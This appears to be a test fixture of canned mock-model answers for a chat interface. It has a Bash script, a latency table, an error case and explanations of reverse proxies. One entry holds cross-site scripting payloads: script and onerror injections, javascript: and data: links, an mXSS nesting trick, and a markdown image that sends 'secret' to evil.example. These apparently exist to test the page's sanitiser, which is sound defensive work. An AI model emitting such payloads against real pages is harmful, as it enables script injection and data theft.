// What the mock's model says: one answer for each part of the chat page that needs looking at.

export const ANSWERS = [
  {
    test: /script|脚本|代码/i,
    thinking:
      "The user wants a short Bash script. du gives sizes of files and folders, find with -type f limits it to files; sort -rh and head do the rest. I should quote the folder.",
    text: [
      "Here is a script that prints the five largest files below a folder:",
      "",
      "```bash",
      "#!/usr/bin/env bash",
      "set -euo pipefail",
      "",
      'folder="${1:-.}"',
      "find \"$folder\" -type f -printf '%s\\t%p\\n' |",
      "  sort -rn |",
      "  head -n 5 |",
      "  numfmt --field=1 --to=iec",
      "```",
      "",
      "- `find -printf` writes the size in bytes and the path,",
      "- `sort -rn` puts the largest first,",
      "- `numfmt` turns bytes into something **readable**.",
      "",
      "Run it with `./largest.sh /var/log`. See [the manual](https://www.gnu.org/software/findutils/) for more.",
    ].join("\n"),
  },
  {
    test: /table|p95|表格/i,
    thinking: "A small table with three rows is enough.",
    text: [
      "| Percentile | Meaning | Watch it for |",
      "|---|---|---:|",
      "| p50 | half of the requests are faster | the usual case |",
      "| p95 | one in twenty is slower | what people complain about |",
      "| p99 | one in a hundred is slower | queues, cold models |",
      "",
      "> The mean hides all three: a few very slow requests move it without anybody feeling the difference.",
    ].join("\n"),
  },
  {
    test: /attack/i,
    text: [
      "<script>window.ran = 'script'</script> <img src=x onerror=\"window.ran='img'\">",
      "",
      "![secret](https://evil.example/?q=secret) ![data](data:image/svg+xml,<svg onload=alert(1)>)",
      "",
      "[run](javascript:window.ran='link') [data](data:text/html,<script>1</script>) [quote](https://good.example/\"onmouseover=\"window.ran='quote')",
      "",
      "<svg><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran='mxss'>",
      "",
      "```html\"><img src=x onerror=window.ran='code'>",
      "<b>code</b>",
      "```",
    ].join("\n"),
  },
  {
    test: /fail/i,
    text: "This answer begins well and then ",
    error: "the model is not answering right now, please try again shortly",
  },
  {
    test: /[\u4e00-\u9fff]/,
    thinking: "用户想要三句话的解释。先说位置，再说作用，最后说好处。",
    text: "反向代理位于客户端与服务器之间，代替服务器接收请求。它可以终止 **TLS**、检查身份、限流，并把请求分发给多台后端。\n\n这样一来，后端不必直接暴露在网络上，故障也更容易被发现：\n\n1. 入口统一，日志完整；\n2. 后端可以随时更换；\n3. 一个配置文件 `tollhouse.yaml` 就够了。",
  },
  {
    test: /./s,
    thinking: "Three sentences: where it stands, what it does, why that helps.",
    text: "A reverse proxy stands between clients and servers and accepts requests in the servers' place. It can end **TLS**, check who is asking, limit how often, and choose the backend that answers. The servers behind it stay unreachable from outside, and every request leaves one line in one log.",
  },
];
